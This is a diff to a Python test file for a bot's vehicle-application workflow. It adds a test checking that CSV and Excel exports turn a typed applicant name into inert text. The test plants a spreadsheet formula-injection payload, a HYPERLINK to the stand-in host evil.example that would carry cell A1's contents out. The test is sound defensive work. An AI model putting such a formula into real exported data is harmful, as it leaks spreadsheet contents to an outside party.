@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from emulator.client import Person
-from tests.desk_helpers import applicant_with_application, staff_member
+from tests.desk_helpers import VEHICLE, applicant_with_application, staff_member
 
 STAFF_COMMANDS = ["/queue", "/app EV-2026-000001", "/export", "/grant 1", "/revoke 1", "/reload"]
 
@@ -43,7 +43,7 @@ async def test_staff_moves_an_application_through_the_whole_workflow(person, bot
 
     await applicant.press("Құжат қосу")
     await applicant.press("Меншік құжаты")
-    await applicant.send_file("title.pdf", b"%PDF title", "application/pdf")
+    await applicant.send_file("title.pdf", b"%PDF-1.4 title", "application/pdf")
 
     replies = await staff.send("/app EV-2026-000001")
     assert "✅ Титул" in replies.text
@@ -174,6 +174,30 @@ async def test_export_excel_holds_the_same_rows_as_csv(person, bot, client):
     assert csv_rows[0][:3] == ["Нөмірі", "Мәртебесі", "Жіберілген күні"]  # staff's language
     assert csv_rows[1][1] == "жіберілді"
     assert "3 өтінім экспортталды" in files[1]["text"]
+
+
+async def test_export_never_turns_a_typed_name_into_a_formula(person, bot, client):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    user = await person("ru")
+    await user.send("/start")
+    repos, now = bot.runtime.repos, bot.clock.timestamp()
+    draft = await repos.applications.create_draft(
+        user.user_id, {**VEHICLE, "applicant_name": formula}, now)
+    await repos.applications.submit(draft.id, 2026, user.user_id, now)
+    staff = await staff_member(client)
+    await staff.send("/export")
+    await staff.press("Все статусы")
+    replies = await staff.press("За всё время")
+    files = [e for e in replies.events if e.get("kind") == "document"]
+    csv_rows = list(csv.reader(io.StringIO((await client.file(files[0]["file_id"])).decode(
+        "utf-8-sig"))))
+    column = csv_rows[0].index("Имя заявителя")
+    assert csv_rows[1][column] == "'" + formula  # a spreadsheet shows it as text
+    assert csv_rows[1][csv_rows[0].index("Телефон")] == "+77011234567"  # a number: as it is
+    sheet = load_workbook(io.BytesIO(await client.file(files[1]["file_id"]))).active
+    cell = sheet.cell(row=2, column=column + 1)
+    assert (cell.value, cell.data_type) == (formula, "s")  # text, never a formula ("f")
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
 
 
 async def test_grant_and_revoke_are_admin_only_recorded_and_set_the_menu(person, bot, client):
